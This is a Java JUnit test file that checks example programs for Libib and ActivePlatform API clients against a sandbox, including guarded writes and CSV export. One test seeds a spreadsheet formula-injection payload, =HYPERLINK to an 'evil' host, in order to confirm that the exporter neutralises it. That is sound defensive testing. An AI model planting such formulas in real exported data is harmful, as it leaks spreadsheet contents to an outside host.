package dev.apiclients.examples;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Runs each example program against a fresh sandbox and checks what it prints. */
class ExamplesTest {

  private final ByteArrayOutputStream outBytes = new ByteArrayOutputStream();
  private final PrintStream out = new PrintStream(outBytes, true, StandardCharsets.UTF_8);

  private String output() {
    return outBytes.toString(StandardCharsets.UTF_8);
  }

  @Test
  void withoutCredentialsTheProgramsSayTheyUseTheSandbox() {
    try (Target target = Target.fromEnvironment(Map.of(), out)) {
      assertThat(target.isSandbox()).isTrue();
      assertThat(output()).contains("using the embedded sandbox").contains("shortened");
      assertThat(target.toString()).doesNotContain(target.libibApiKey());
    }
  }

  @Test
  void libibTourRunsEveryOperation() {
    try (Target target = Target.forSandbox()) {
      LibibTour.run(target, out);
    }
    assertThat(output())
        .contains("Sandbox Library")
        .contains("Larry       McMurtry   lonesome@example.com    owner")
        .contains("getManagerById(samthewise@example.com) -> Samwise Gamgee (lender)")
        .contains("createManager(bilbo.baggins@example.com) -> created; managers now: 4")
        .contains("deleteManager(bilbo.baggins@example.com) -> deleted; managers now: 3")
        .contains("getPatrons() -> 137 patrons")
        .contains("getPatronById(frankenstein@example.com) -> Mary Shelley, barcode 2020000000013")
        .contains("updatePatron(phone, city) -> phone 555-0100, city Marylebone")
        .contains("verifyCredentials() -> accepted")
        .containsPattern("createPatron\\(Ada Lovelace\\) -> barcode \\d{13} \\(assigned by Libib\\)")
        .contains("findPatron(ada.lovelace@example.com) -> found")
        .contains("deletePatron -> deleted (findPatron is now empty)")
        .contains("restorePatron -> back: Ada")
        .contains("leaving the sandbox as it was: 137 patrons");
  }

  @Test
  void activePlatformTourWalksEveryPage() {
    try (Target target = Target.forSandbox()) {
      ActivePlatformTour.run(target, out);
    }
    assertThat(output())
        .contains("getManagersPage(1, size 2, page 1)")
        .contains("streamManagers(1) -> 120 managers over 3 pages")
        .contains("The first 10:")
        .contains("... and 110 more")
        .containsPattern("streamAccounts\\(1, include=subscriptions\\) -> 130 accounts with \\d+ subscriptions")
        .contains("streamOrders(1, sort=-created_at, include=charges), first 5:");
    assertThat(output().lines().filter(line -> line.contains("@"))).hasSize(10);
  }

  @Test
  void provisioningTourRunsEveryWriteOnTheSandbox() {
    try (Target target = Target.forSandbox()) {
      assertThat(ActivePlatformProvisioning.run(target, List.of(), out)).isTrue();
    }
    assertThat(output())
        .containsPattern("createAccount\\(Ada Lovelace\\) -> account \\d+ \"Ada Lovelace\"")
        .contains("+ awaitAsyncTask -> completed, valid")
        .containsPattern("createSalesOrder\\(plan 1200, 10 seats\\) -> order \\d+ \\(SO\\d+\\) waiting_for_payment, "
            + "total 1500.00")
        .contains("-> paid_from_balance; order completed")
        .containsPattern("subscription \\d+ -> active, 10 seats; ability: \\[stop, destroy, adjust")
        .contains("seats now: 15")
        .contains("stopSubscription -> stopped; ability: [activate, destroy]")
        .contains("activateSubscription -> active")
        .contains("setAutoRenew(false) -> autorenew false")
        .containsPattern("-> plan 1201")
        .containsPattern("createProlongOrder -> order \\d+ \\(PO\\d+\\) waiting_for_payment")
        .containsPattern("cancelOrder\\(\\d+\\) -> cancelled");
  }

  @Test
  void provisioningTourWritesToARealPlatformOnlyWithTheFlagAndTheCatalogueIds() {
    try (Target sandbox = Target.forSandbox()) {
      Target real = new Target(null, null, null, null, sandbox.activePlatformBaseUrl(),
          sandbox.activePlatformToken(), 1, null);
      assertThat(ActivePlatformProvisioning.run(real, List.of(), out)).isFalse();
      assertThat(ActivePlatformProvisioning.run(real, List.of(ActivePlatformProvisioning.ALLOW_WRITES), out))
          .isFalse();
      assertThat(sandbox.sandbox().activePlatform().requests()).isEmpty();

      assertThat(ActivePlatformProvisioning.run(real, List.of(ActivePlatformProvisioning.ALLOW_WRITES,
          "--account-type=2", "--plan=1202", "--period=12021", "--users-resource=120201", "--switch-plan=1203",
          "--switch-period=12031"), out)).isTrue();
      assertThat(sandbox.sandbox().activePlatform().writes()).isNotEmpty();
    }
    assertThat(output()).contains("writes NOTHING unless you pass --allow-writes")
        .contains("missing --account-type").contains("Nothing was written.")
        .contains("createSalesOrder(plan 1202, 10 seats)").contains("-> plan 1203");
  }

  @Test
  void patronExportWritesQuotedCsvWithALineOfProgressPerPageWhenNotOnATerminal(@TempDir Path dir) throws Exception {
    ByteArrayOutputStream errBytes = new ByteArrayOutputStream();
    Path csv = dir.resolve("out/patrons.csv");
    long written;
    try (Target target = Target.forSandbox()) {
      written = PatronExport.run(target, csv, out, new PrintStream(errBytes, true, StandardCharsets.UTF_8), false);
    }

    List<String> lines = Files.readAllLines(csv);
    assertThat(written).isEqualTo(137);
    assertThat(lines).hasSize(138);
    assertThat(lines.get(0)).isEqualTo(String.join(",", PatronExport.HEADER));
    assertThat(lines.get(1)).isEqualTo("2020000000013,Mary,Shelley,frankenstein@example.com,,,mshelley,555-123-4567,,,Augusta,KS,US,,");
    assertThat(lines.get(2)).endsWith(",US,,1");
    assertThat(errBytes.toString(StandardCharsets.UTF_8)).doesNotContain("\r")
        .isEqualTo("page 1, 50 of 137 patrons\npage 2, 100 of 137 patrons\npage 3, 137 of 137 patrons\n"
            .replace("\n", System.lineSeparator()));
    assertThat(output()).contains("Wrote 137 patrons to " + csv.toAbsolutePath());
  }

  @Test
  void patronExportNeutralisesWhatPatronsTypedAsFormulas(@TempDir Path dir) throws Exception {
    Path csv = dir.resolve("patrons.csv");
    try (Target target = Target.forSandbox()) {
      target.sandbox().libib().addPatrons(dev.apiclients.libib.PatronFields.builder()
          .firstName("=HYPERLINK(\"http://evil/?\"&B2)").lastName("@SUM(1+1)").phone("+1 555 0100").build());
      PatronExport.run(target, csv, out, new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8), false);
    }

    List<String> lines = Files.readAllLines(csv);
    assertThat(lines.get(lines.size() - 1))
        .contains(",\"'=HYPERLINK(\"\"http://evil/?\"\"&B2)\",'@SUM(1+1),").contains(",'+1 555 0100,");
  }

  @Test
  void csvNeutralisesCellsASpreadsheetWouldRun() {
    assertThat(Csv.line(java.util.Arrays.asList("=1+1", "+cmd", "-2", "@SUM(A1)", "\tx", "\ry", "a=b", -3)))
        .isEqualTo("'=1+1,'+cmd,'-2,'@SUM(A1),'\tx,\"'\ry\",a=b,'-3");
  }

  @Test
  void csvQuotesFieldsThatNeedIt() {
    assertThat(Csv.line(java.util.Arrays.asList("plain", "a,b", "say \"hi\"", "two\nlines", null, " padded")))
        .isEqualTo("plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",,\" padded\"");
  }
}
